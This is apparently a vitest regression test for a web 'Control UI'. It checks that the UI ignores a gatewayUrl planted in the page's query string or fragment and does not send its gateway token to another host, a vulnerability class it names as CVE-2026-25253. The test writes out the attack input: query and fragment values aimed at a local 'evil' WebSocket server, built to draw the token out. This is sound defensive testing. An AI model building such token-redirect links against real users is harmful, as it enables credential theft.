// CVE-2026-25253 class: OpenClaw's Control UI took a `gatewayUrl` from the page's query string
// and connected there, handing that host the gateway token. This UI connects to its own origin
// only: a `gatewayUrl` in the query or the fragment is ignored, no socket goes anywhere else,
// and the gateway's CSP (connect-src 'self') would block one if the code ever tried.

import { rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  buildUi,
  launchBrowser,
  startUiGateway,
  UI_TOKEN,
  type UiGateway,
} from "../../apps/control-ui/src/test-support.js";

let uiRoot: string;
let gw: UiGateway;
let browser: Awaited<ReturnType<typeof launchBrowser>>;
let evil: Server;
let evilPort = 0;
const evilHits: string[] = [];

beforeAll(async () => {
  uiRoot = await buildUi();
  evil = createServer((req, res) => {
    evilHits.push(`${req.method} ${req.url}`);
    res.end();
  });
  evil.on("upgrade", (req, socket) => {
    evilHits.push(`upgrade ${req.url} ${JSON.stringify(req.headers)}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
  evilPort = (evil.address() as AddressInfo).port;
  [gw, browser] = await Promise.all([startUiGateway(uiRoot), launchBrowser()]);
  // record every WebSocket the page opens
  await browser.context.addInitScript(() => {
    const w = window as unknown as { sockets: string[]; WebSocket: typeof WebSocket };
    const Native = w.WebSocket;
    w.sockets = [];
    w.WebSocket = class extends Native {
      constructor(url: string | URL, protocols?: string | string[]) {
        super(url, protocols);
        w.sockets.push(String(url));
      }
    };
  });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await gw?.stop();
  await new Promise((resolve) => evil?.close(resolve));
  if (uiRoot) await rm(uiRoot, { recursive: true, force: true });
});

describe("Control UI: no gateway URL from the page address (CVE-2026-25253)", () => {
  it("ignores gatewayUrl in the query and the fragment; the token only ever goes to its own origin", async () => {
    const page = await browser.context.newPage();
    const attacker = `ws://127.0.0.1:${evilPort}/`;
    const query = new URLSearchParams({ gatewayUrl: attacker, url: attacker, gateway: attacker });
    await page.goto(`${gw.url}?${query}#gatewayUrl=${encodeURIComponent(attacker)}&token=${UI_TOKEN}`);
    await page.locator('[data-link="connected"]').waitFor({ timeout: 15_000 });
    const sockets = await page.evaluate(() => (window as unknown as { sockets: string[] }).sockets);
    expect(sockets.length).toBeGreaterThan(0);
    for (const url of sockets) expect(new URL(url).host).toBe(`127.0.0.1:${gw.port}`);
    expect(evilHits).toEqual([]);
    // the token was taken out of the address bar and kept for this origin only
    expect(page.url()).not.toContain(UI_TOKEN);
    await page.close();
  });

  it("the page's CSP blocks a socket to another host even if script tried", async () => {
    const page = await browser.context.newPage();
    await page.goto(gw.url);
    const outcome = await page.evaluate(
      (target) =>
        new Promise<string>((resolve) => {
          try {
            const socket = new WebSocket(target);
            socket.onerror = () => resolve("error");
            socket.onopen = () => resolve("open");
          } catch (error) {
            resolve(`threw ${(error as Error).name}`);
          }
        }),
      `ws://127.0.0.1:${evilPort}/`,
    );
    expect(outcome).not.toBe("open");
    expect(evilHits).toEqual([]);
    await page.close();
  });
});
